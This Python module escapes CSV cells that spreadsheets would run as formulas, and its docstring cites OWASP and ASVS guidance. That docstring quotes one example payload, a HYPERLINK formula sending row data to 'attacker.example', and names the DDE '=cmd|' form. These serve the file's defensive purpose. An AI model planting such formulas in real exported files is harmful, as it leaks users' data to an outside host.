"""Cells for spreadsheets: text that a spreadsheet would run as a formula is written as text.

gavah writes text taken from lists, registries and sanctions files that anyone may have written,
and people open what gavah writes in Excel, LibreOffice or Google Sheets. A cell that begins with
``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a NUL is read there as a formula
(``=HYPERLINK("https://attacker.example/?"&A2, "open")`` sends the row away; ``@SUM(...)``,
DDE ``=cmd|...``). OWASP's CSV injection rule, and ASVS 5.0 requirement 1.2.10: such a cell is
written with a single quote before it, which spreadsheets take as "this is text".

Two kinds of cell are left as they are, because no spreadsheet reads a formula in them:

- numbers (``int``, ``float``) gavah writes as numbers: row numbers, counts, scores;
- text that is exactly a signed decimal number (``-5``, ``+3.5``) or only hyphens (``-``,
  ``--``, which lists write for "not known"): a sign with nothing but digits after it is a
  number to every spreadsheet, not an expression. Keeping them keeps a file gavah writes for
  correction (rejected rows) importable again as it was read.

Every CSV writer in gavah goes through :func:`writer` or :func:`dict_writer`; an XLSX writer must
pass each value through :func:`cell` (gavah writes none today). docs/security.md says so.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
_INERT = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?|-+")  # ASCII digits only: "-۵" is not a number


def cell(value: Any) -> Any:
    """``value`` as a spreadsheet cell: text that would start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _INERT.fullmatch(value):
        return "'" + value
    return value


class RowWriter:
    """``csv.writer`` whose every cell passes through :func:`cell`."""

    def __init__(self, handle: TextIO, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictRowWriter:
    """``csv.DictWriter`` (extra keys ignored, missing ones empty) whose every cell, header
    included, passes through :func:`cell`."""

    def __init__(self, handle: TextIO, fieldnames: Sequence[str], **options: Any) -> None:
        self._fields = list(fieldnames)
        self._writer = RowWriter(handle, **options)

    def writeheader(self) -> None:
        self._writer.writerow(self._fields)

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow(row.get(name, "") for name in self._fields)

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle: TextIO, **options: Any) -> RowWriter:
    """A CSV writer for ``handle`` (``options`` as for :func:`csv.writer`) that writes no formula."""
    return RowWriter(handle, **options)


def dict_writer(handle: TextIO, fieldnames: Sequence[str], **options: Any) -> DictRowWriter:
    """A CSV writer of mappings with the columns ``fieldnames`` that writes no formula."""
    return DictRowWriter(handle, fieldnames, **options)
